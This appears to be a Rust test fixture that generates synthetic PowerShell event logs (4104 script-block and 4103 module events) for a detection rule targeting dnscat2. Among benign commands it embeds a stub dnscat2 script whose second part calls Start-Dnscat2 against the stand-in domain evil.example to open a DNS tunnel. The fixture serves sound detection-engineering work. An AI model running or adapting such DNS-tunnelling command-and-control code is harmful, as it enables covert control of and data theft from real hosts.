//! The PowerShell operational sample: a dnscat2 script block logged in three parts (only the
//! second calls Start-Dnscat2), benign script blocks, and a 4103 module-logging event that
//! mentions Start-Dnscat2 (script block rules must not see it).

use super::{
    Expect::{Fires, MustNotFire},
    LogBuilder, SampleLog, POWERSHELL_FILE, RULE_DNSCAT,
};
use crate::evtxgen::windows::{powershell_module, powershell_script_block, Host, ScriptBlock};

const BOB: &str = "S-1-5-21-3623811015-3361044348-30300820-1013";
const PID: u32 = 6248;
const ACTIVITY: &str = "{0F6E3A2B-9C41-0003-84D2-6E0F2B9CDA01}";
const DNSCAT_BLOCK: &str = "3c9f51e2-7d0a-4b6e-9a41-5f2e8c7d1b90";

const PART_1: &str = "function Convert-Dnscat2Bytes {\r\n    param([byte[]]$Data)\r\n    \
    return ($Data | ForEach-Object { $_.ToString('x2') }) -join ''\r\n}\r\n\r\n\
    function New-Dnscat2Packet {\r\n    param([string]$SessionId, [int]$Seq, [byte[]]$Payload)\r\n    \
    $hex = Convert-Dnscat2Bytes -Data $Payload\r\n    return \"$SessionId$('{0:x4}' -f $Seq)$hex\"\r\n}\r\n";

const PART_2: &str = "function Start-Dnscat2 {\r\n    param([string]$Domain, [string]$DNSServer = '', \
    [switch]$NoEncryption)\r\n    $session = New-Dnscat2Packet -SessionId (Get-Random -Maximum 65535) \
    -Seq 0 -Payload @()\r\n    Resolve-DnsName -Name \"$session.$Domain\" -Type TXT | Out-Null\r\n}\r\n\r\n\
    Start-Dnscat2 -Domain evil.example\r\n";

const PART_3: &str = "function Stop-Dnscat2Session {\r\n    param([string]$SessionId)\r\n    \
    Write-Verbose \"closing $SessionId\"\r\n}\r\n\r\nRegister-EngineEvent PowerShell.Exiting \
    -Action { Stop-Dnscat2Session -SessionId $global:sid } | Out-Null\r\n";

/// The PowerShell log. Record ids are fixed: see `docs/EVTXGEN.md`.
pub(super) fn log() -> SampleLog {
    let mut b = LogBuilder::new(POWERSHELL_FILE, "2024-06-11T08:01:20Z");
    let host = Host::new("WS01.corp.example");
    let block = |number, total, text, id, path| ScriptBlock {
        number,
        total,
        text,
        id,
        path,
    };

    let t = b.after(1);
    b.add(powershell_script_block(
        &host,
        t,
        BOB,
        PID,
        ACTIVITY,
        &block(1, 1, "prompt", "8d2f7c1a-0b3e-4f5d-9e6a-1c2b3d4e5f60", ""),
        false,
    ));
    let t = b.after(14);
    b.add(powershell_script_block(
        &host,
        t,
        BOB,
        PID,
        ACTIVITY,
        &block(
            1,
            1,
            "Get-Process | Sort-Object CPU -Descending | Select-Object -First 5",
            "a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d",
            "",
        ),
        false,
    ));
    for (i, text) in [PART_1, PART_2, PART_3].into_iter().enumerate() {
        let t = b.after(1);
        let number = i as u32 + 1;
        let event = powershell_script_block(
            &host,
            t,
            BOB,
            PID,
            ACTIVITY,
            &block(
                number,
                3,
                text,
                DNSCAT_BLOCK,
                "C:\\Users\\bob\\AppData\\Local\\Temp\\d2.ps1",
            ),
            number == 2,
        );
        match number {
            2 => b.seed(
                event,
                RULE_DNSCAT,
                Fires,
                "4104 part 2 of 3 of script block 3c9f51e2-...: Start-Dnscat2 -Domain evil.example",
            ),
            1 => b.seed(
                event,
                RULE_DNSCAT,
                MustNotFire,
                "4104 part 1 of 3 of the same script block (no Start-Dnscat2 in it)",
            ),
            _ => b.seed(
                event,
                RULE_DNSCAT,
                MustNotFire,
                "4104 part 3 of 3 of the same script block (no Start-Dnscat2 in it)",
            ),
        };
    }
    let t = b.after(2);
    b.seed(
        powershell_module(
            &host,
            t,
            BOB,
            PID,
            ACTIVITY,
            "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        \
             Host Application = powershell.exe -NoProfile -ExecutionPolicy Bypass\r\n        \
             Command Name = Start-Dnscat2\r\n        Command Type = Function\r\n        \
             User = CORP\\bob\r\n",
            "CommandInvocation(Start-Dnscat2): \"Start-Dnscat2\"\r\n\
             ParameterBinding(Start-Dnscat2): name=\"Domain\"; value=\"evil.example\"\r\n",
        ),
        RULE_DNSCAT,
        MustNotFire,
        "4103 module logging whose Payload names Start-Dnscat2 (ps_script is 4104 only)",
    );
    let t = b.after(40);
    b.add(powershell_script_block(
        &host,
        t,
        BOB,
        PID,
        ACTIVITY,
        &block(
            1,
            1,
            "Get-ChildItem -Path C:\\Users\\bob\\Documents -Filter *.txt | Measure-Object",
            "b7e8f9a0-1b2c-4d3e-8f4a-5b6c7d8e9fa1",
            "",
        ),
        false,
    ));
    let t = b.after(95);
    b.add(powershell_script_block(
        &host,
        t,
        BOB,
        PID,
        ACTIVITY,
        &block(
            1,
            1,
            "# Nightly copy of the team share\r\nCopy-Item -Path \\\\fs01\\team\\* -Destination \
             D:\\Backup\\team -Recurse -Force\r\nWrite-Output \"done: $(Get-Date -Format o)\"\r\n",
            "c4d5e6f7-8a9b-4c0d-9e1f-2a3b4c5d6e7f",
            "C:\\Users\\bob\\Documents\\Backup.ps1",
        ),
        false,
    ));
    b.finish()
}
